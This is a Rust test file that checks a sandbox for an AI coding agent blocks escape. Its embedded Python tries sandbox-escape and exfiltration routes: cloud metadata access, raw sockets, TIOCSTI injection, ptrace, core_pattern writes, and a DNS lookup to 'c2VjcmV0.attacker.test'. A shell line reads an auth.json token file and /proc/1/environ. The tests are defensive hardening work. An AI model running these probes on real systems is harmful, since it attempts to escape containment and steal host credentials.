//! What cannot be reached from a box: the network past the sidecar, the host's services, its files and its secrets.

use std::net::{TcpListener, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener};

use base64::Engine;
use base64::prelude::{BASE64_STANDARD, BASE64_URL_SAFE_NO_PAD};
use serde_json::json;
use tokio::io::AsyncWriteExt;

use crate::harness::clients::{Running, run};
use crate::launch::host::{Host, User};

/// The system's own, which is in every box.
const PYTHON: &str = "/usr/bin/python3";

/// Tries every way out that needs no more than Python, and prints what came of each.
const TRY_TO_GET_OUT: &str = r#"
import errno, json, os, socket, struct, sys, fcntl
targets = json.loads(sys.argv[1])
def attempt(name, action):
    try:
        action()
        print(name, "REACHED")
    except OSError as error:
        print(name, errno.errorcode.get(error.errno, str(error)))
def tcp(address):
    def action():
        with socket.create_connection(tuple(address), timeout=5): pass
    return action
def udp(address):
    def action():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(0.5)
            s.connect(tuple(address)); s.send(b"x"); s.recv(1)
    return action
def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
def packet():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()
def vsock():
    socket.socket(40, socket.SOCK_STREAM).close()
def abstract():
    with socket.socket(socket.AF_UNIX) as s: s.connect("\0" + targets["abstract"])
def unix():
    with socket.socket(socket.AF_UNIX) as s: s.connect(targets["unix"])
def tiocsti():
    fcntl.ioctl(0, 0x5412, b"x")
def ptrace():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, 1, 0, 0) != 0: raise OSError(ctypes.get_errno(), "ptrace")
def io_uring():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(425, 1, ctypes.create_string_buffer(120)) < 0: raise OSError(ctypes.get_errno(), "io_uring")
def sysctl():
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
def remount():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"none", b"/mnt-none", b"tmpfs", 0, 0) != 0 and libc.umount2(b"/proc/sys", 2) != 0:
        raise OSError(ctypes.get_errno(), "umount")
def other_sidecar_port():
    with socket.create_connection(("127.0.0.2", targets["tcp"][1]), timeout=5): pass
attempt("tcp", tcp(targets["tcp"]))
attempt("udp-local", udp(targets["udp"]))
attempt("upstream", tcp(targets["upstream"]))
attempt("internet", tcp(["198.51.100.1", 443]))
attempt("metadata", tcp(["169.254.169.254", 80]))
attempt("udp", udp(["198.51.100.1", 53]))
attempt("raw", raw)
attempt("packet", packet)
attempt("vsock", vsock)
attempt("abstract", abstract)
attempt("unix", unix)
attempt("tiocsti", tiocsti)
attempt("ptrace", ptrace)
attempt("io_uring", io_uring)
attempt("sysctl", sysctl)
attempt("remount", remount)
attempt("sidecar-port", other_sidecar_port)
"#;

#[tokio::test]
async fn nothing_is_reached_but_the_sidecar() {
    for user in [User::Own, User::Ordinary] {
        let host = Host::new(user).await;
        let tcp = TcpListener::bind("127.0.0.1:0").expect("a port");
        let udp = UdpSocket::bind("127.0.0.1:0").expect("a port");
        let name = format!("egress-test-{}", std::process::id());
        let address = SocketAddr::from_abstract_name(&name).expect("a name");
        let _abstract = UnixListener::bind_addr(&address);
        let _unix = UnixListener::bind(host.path("run/service.sock")).expect("a socket");
        let port = |address: std::io::Result<std::net::SocketAddr>| {
            json!(["127.0.0.1", address.expect("bound").port()])
        };
        let targets = json!({
            "tcp": port(tcp.local_addr()),
            "udp": port(udp.local_addr()),
            "upstream": port(Ok(host.upstream.addr())),
            "abstract": name,
            "unix": host.path("run/service.sock"),
        });
        let mut python = host.run([PYTHON, "-c", TRY_TO_GET_OUT]);
        let output = run(python.arg(targets.to_string())).await.success();
        let is_root = user == User::Own && rustix::process::geteuid().is_root();
        let expected = [
            ("tcp", "ECONNREFUSED"),
            ("udp-local", "ECONNREFUSED"),
            ("upstream", "ECONNREFUSED"),
            ("internet", "ENETUNREACH"),
            ("metadata", "ENETUNREACH"),
            ("udp", "ENETUNREACH"),
            ("raw", "EPERM"),
            ("packet", "EPERM"),
            ("vsock", "EPERM"),
            ("abstract", "ECONNREFUSED"),
            ("unix", "ENOENT"),
            ("tiocsti", "EPERM"),
            ("ptrace", "EPERM"),
            ("io_uring", "EPERM"),
            // To root's own user it is the file system that says no.
            ("sysctl", if is_root { "EROFS" } else { "EACCES" }),
            ("remount", "EPERM"),
            ("sidecar-port", "ECONNREFUSED"),
        ];
        let found: Vec<_> = output
            .stdout
            .lines()
            .filter_map(|line| line.split_once(' '))
            .collect();
        assert_eq!(found, expected, "{output:#?}");
        assert_eq!(host.upstream.connections(), 0);
    }
}

#[tokio::test]
async fn a_foreign_name_does_not_exist_and_nothing_is_asked_of_anybody() {
    let host = Host::new(User::Own).await;
    let script = r#"
import socket
for name in ["api.github.com", "other.test", "c2VjcmV0.attacker.test", "localhost"]:
    try:
        print(name, socket.getaddrinfo(name, 443, socket.AF_INET, socket.SOCK_STREAM)[0][4][0])
    except socket.gaierror as error:
        print(name, "unknown" if error.errno == socket.EAI_NONAME else error)
"#;
    let output = run(&mut host.run([PYTHON, "-c", script])).await.success();
    assert_eq!(
        output.stdout,
        "api.github.com 127.0.0.2\nother.test unknown\nc2VjcmV0.attacker.test unknown\nlocalhost 127.0.0.1\n",
        "{output:#?}"
    );
}

#[tokio::test]
async fn the_hosts_files_and_processes_are_not_there() {
    for user in [User::Own, User::Ordinary] {
        let host = Host::new(user).await;
        let home = host.path("home");
        let script = format!(
            "ls -A {home}; ls -A {run} 2>&1; cat {home}/.codex/auth.json 2>&1; ls /var/run /run 2>&1; \
             ls -d /proc/[0-9]* | wc -l; cat /proc/1/environ 2>&1 | head -c 9; touch /usr/x 2>&1; touch /x 2>&1; \
             grep -E '^(Cap(Prm|Eff|Bnd|Amb)|NoNewPrivs|Seccomp):' /proc/self/status | tr -d '\\t'",
            home = home.display(),
            run = host.path("run").display(),
        );
        let output = host.script(&script).await;
        assert!(output.stdout.starts_with("project\n"), "{output:#?}");
        for line in [
            "No such file or directory",
            "CapPrm:0000000000000000",
            "CapEff:0000000000000000",
            "CapBnd:0000000000000000",
            "CapAmb:0000000000000000",
            "NoNewPrivs:1",
            "Seccomp:2",
            "touch: cannot touch '/usr/x': Read-only file system",
            "touch: cannot touch '/x': Read-only file system",
        ] {
            assert!(output.stdout.contains(line), "{line}: {output:#?}");
        }
        assert!(!output.stdout.contains("tokens"), "{output:#?}");
    }
}

/// Reads needles from its input, and looks for them in every file, variable and argument that it can see.
const SCAN: &str = r#"
import json, os, sys
needles = [bytes.fromhex(needle) for needle in json.load(sys.stdin)]
seen = hits = 0
def look(where, data):
    global hits
    for number, needle in enumerate(needles):
        if needle in data:
            hits += 1
            print("HIT", number, where)
for directory, directories, files in os.walk("/"):
    if directory == "/":
        directories[:] = [name for name in directories if name not in ("usr", "opt", "proc", "nix")]
    for name in files:
        path = os.path.join(directory, name)
        if os.path.isfile(path):
            try:
                with open(path, "rb") as file: data = file.read()
            except OSError: continue
            seen += 1
            look(path, data)
for process in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "maps"):
        try:
            with open(f"/proc/{process}/{name}", "rb") as file: data = file.read()
        except OSError: continue
        seen += 1
        look(f"/proc/{process}/{name}", data)
print("seen" if seen > 20 else "too little", "hits", hits)
"#;

#[tokio::test]
async fn the_agent_holds_no_secret_of_the_host_in_any_form() {
    for user in [User::Own, User::Ordinary] {
        let host = Host::new(user).await;
        let needles: Vec<String> = host.secrets().into_iter().flat_map(forms).collect();
        let mut scan = host.run([PYTHON, "-c", SCAN]);
        scan.stdin(std::process::Stdio::piped());
        let mut running = Running::spawn(&mut scan);
        let text = json!(needles).to_string();
        let mut stdin = running.stdin();
        stdin.write_all(text.as_bytes()).await.expect("it reads");
        drop(stdin);
        let output = running.finish().await.success();
        assert_eq!(output.stdout, "seen hits 0\n", "{output:#?}");
    }
}

#[tokio::test]
async fn the_scan_finds_what_is_there() {
    let host = Host::new(User::Own).await;
    host.write("home/project/leak", BASE64_STANDARD.encode(&host.token));
    let needles: Vec<String> = forms(&host.token);
    let mut scan = host.run([PYTHON, "-c", SCAN]);
    scan.stdin(std::process::Stdio::piped());
    let mut running = Running::spawn(&mut scan);
    let mut stdin = running.stdin();
    let text = json!(needles).to_string();
    stdin.write_all(text.as_bytes()).await.expect("it reads");
    drop(stdin);
    let output = running.finish().await;
    assert!(output.stdout.contains("project/leak"), "{output:#?}");
}

/// A secret in every form in which it is looked for, each in hex: plain, percent-encoded, hex, and base64 at its three
/// alignments.
fn forms(secret: &str) -> Vec<String> {
    let hex = |bytes: &[u8]| {
        bytes
            .iter()
            .map(|byte| format!("{byte:02x}"))
            .collect::<String>()
    };
    let mut forms = vec![
        secret.to_owned(),
        hex(secret.as_bytes()),
        secret.replace('_', "%5F"),
    ];
    for skip in 0..3 {
        let padded = [&b"\0\0"[..skip], secret.as_bytes()].concat();
        for text in [
            BASE64_STANDARD.encode(&padded),
            BASE64_URL_SAFE_NO_PAD.encode(&padded),
        ] {
            // The first characters and the last depend on the neighbours.
            forms.push(text[4..text.len() - 4].to_owned());
        }
    }
    forms.iter().map(|form| hex(form.as_bytes())).collect()
}
